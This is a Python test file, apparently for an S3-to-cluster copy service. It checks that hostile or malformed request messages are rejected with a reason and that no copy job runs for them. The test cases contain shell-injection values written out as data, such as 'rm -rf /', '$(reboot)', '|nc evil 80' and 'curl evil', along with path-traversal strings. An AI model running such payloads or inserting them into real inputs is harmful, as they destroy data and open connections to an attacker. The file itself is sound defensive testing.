"""Malicious and malformed requests are rejected with a reason, and nothing runs for them."""

from __future__ import annotations

import json

from .conftest import BUCKET, OTHER_BUCKET, CopyWorld

SRC = f"s3://{BUCKET}/exports/ok/"


def body(**fields: object) -> str:
    doc = {"v": 1, "request_id": "r", "source": SRC, "destination": "/data/imports/ok",
           "mode": "update"}
    doc.update(fields)
    return json.dumps({k: v for k, v in doc.items() if v is not None})


def manifest(*entries: tuple[str, int]) -> list[dict[str, object]]:
    return [{"key": k, "size": s} for k, s in entries]


# (case id, message body, text the recorded reason must contain)
HOSTILE = [
    ("semicolon", body(request_id="h01", source=SRC + "; rm -rf /"), "';'"),
    ("command-substitution", body(request_id="h02", destination="/data/imports/$(reboot)"),
     "'$'"),
    ("backticks", body(request_id="h03", destination="/data/imports/`id`"), "'`'"),
    ("pipe", body(request_id="h04", destination="/data/imports/x|nc evil 80"), "'|'"),
    ("request-id-shell", body(request_id="x && curl evil"), "request_id"),
    ("traversal-destination", body(request_id="h06", destination="/data/imports/../../etc"),
     "'..'"),
    ("traversal-source", body(request_id="h07", source=f"s3://{BUCKET}/exports/../private/"),
     "'..'"),
    ("dot-component", body(request_id="h08", destination="/data/imports/./x"), "'.'"),
    ("relative-destination", body(request_id="h09", destination="data/imports/x"),
     "absolute"),
    ("allowed-root-itself", body(request_id="h10", destination="/data/imports"),
     "not below an allowed destination"),
    ("sibling-destination", body(request_id="h11", destination="/data/imports2/x"),
     "not below an allowed destination"),
    ("other-bucket", body(request_id="h12", source=f"s3://{OTHER_BUCKET}/exports/ok/"),
     "not inside an allowed source"),
    ("other-prefix", body(request_id="h13", source=f"s3://{BUCKET}/private/ok/"),
     "not inside an allowed source"),
    ("prefix-boundary", body(request_id="h14", source=f"s3://{BUCKET}/exports-secret/ok/"),
     "not inside an allowed source"),
    ("hdfs-scheme", body(request_id="h15", source="hdfs://nn1/user/secret/"), "scheme"),
    ("file-scheme", body(request_id="h16", source="file:///etc/"), "scheme"),
    ("nul", body(request_id="h17", destination="/data/imports/x\x00y"), "U+0000"),
    ("newline", body(request_id="h18", destination="/data/imports/x\nrm -rf /"), "U+000A"),
    ("rtl-override", body(request_id="h19", destination="/data/imports/gpj.\u202eexe"),
     "U+202E"),
    ("glob-escape", body(request_id="h20", source=f"s3://{BUCKET}/exports/{{ok,../private}}/"),
     "'{'"),
    ("mode-wrong-type", body(request_id="h21", mode=1), "mode"),
    ("request-id-wrong-type", body(request_id=["a"]), "request_id"),
    ("unknown-version", body(request_id="h23", v=2), "version"),
    ("duplicate-key", '{"v": 1, "request_id": "h24", "source": "' + SRC + '", "destination": '
                      '"/data/imports/ok", "destination": "/etc", "mode": "update"}',
     "twice"),
    ("not-json", "hadoop distcp s3a://x/ /; rm -rf /", "is not JSON"),
    ("json-array", json.dumps([SRC, "/data/imports/ok"]), "JSON object"),
    ("unknown-field", body(request_id="h27", cmd="rm -rf /"), "unknown field"),
    ("manifest-outside-prefix", body(request_id="h28", manifest=manifest(
        ("exports/private/secrets.csv", 10))), "not inside the source prefix"),
    ("lying-manifest", body(request_id="h29", manifest=manifest(
        ("exports/ok/part-0", 999))), "the manifest says 999"),
    ("manifest-missing-object", body(request_id="h30", manifest=manifest(
        ("exports/ok/part-9", 3))), "does not exist"),
    ("manifest-too-many", body(request_id="h31", manifest=manifest(
        *((f"exports/ok/p{i}", 1) for i in range(60)))), "max_objects"),
    ("manifest-too-big", body(request_id="h32", manifest=manifest(
        ("exports/ok/part-0", 4 * 1024**4))), "max_bytes"),
    ("manifest-wrong-size-type", body(request_id="h33", manifest=[
        {"key": "exports/ok/part-0", "size": "4"}]), "size"),
    ("over-long-destination", body(request_id="h34", destination="/data/imports/" + "a/" * 2500),
     "longer than"),
    ("notify-not-allowed", body(
        request_id="h35", notify="arn:aws:sns:eu-west-1:999999999999:attacker"),
     "not an allowed notification topic"),
]


def test_hostile_requests_are_rejected_with_reasons_and_nothing_runs(world: CopyWorld) -> None:
    world.put_dataset("exports/ok/", {"part-0": b"abcd"})
    sent = {case: world.send(text) for case, text, _ in HOSTILE}

    world.run_until_idle(max_objects=50, max_bytes=10**9)

    assert not world.log.exists(), "hadoop ran: " + world.log.read_text()
    assert world.listing("/data") == {}
    items = {item["request_id"]: item for item in world.items()}
    for case, text, expected in HOSTILE:
        doc = _maybe_json(text)
        key = doc.get("request_id") if isinstance(doc, dict) else None
        item = items.get(key) if isinstance(key, str) else None
        if item is None:
            item = items.get(f"message:{sent[case]}")
        assert item is not None, f"{case}: no transfers item"
        assert item["state"] == "rejected", case
        assert expected in item["reason"], f"{case}: {item['reason']!r}"
    assert len(HOSTILE) >= 20
    assert world.queue_depth(world.queue_url) == 0  # deleted, not looping
    assert world.queue_depth(world.dlq_url) == 0
    outcomes = world.outcomes()
    assert len(outcomes) == len(HOSTILE)
    assert {o["state"] for o in outcomes} == {"rejected"}


def test_request_id_reused_for_another_copy_is_rejected_and_the_first_record_kept(
        world: CopyWorld) -> None:
    world.put_dataset("exports/ok/", {"part-0": b"abcd"})
    world.send(body(request_id="once"))
    world.run_until_idle()
    assert world.item("once")["state"] == "verified"

    world.send(body(request_id="once", destination="/data/imports/elsewhere"))
    world.run_until_idle()

    assert world.item("once")["state"] == "verified"
    assert world.item("once")["destination"] == "/data/imports/ok"
    rejected = [i for i in world.items() if i["state"] == "rejected"]
    assert len(rejected) == 1 and "already used" in rejected[0]["reason"]
    assert len(world.invocations()) == 1
    assert world.listing("/data/imports/elsewhere") == {}


def _maybe_json(text: str) -> object:
    try:
        return json.loads(text)
    except ValueError:
        return None
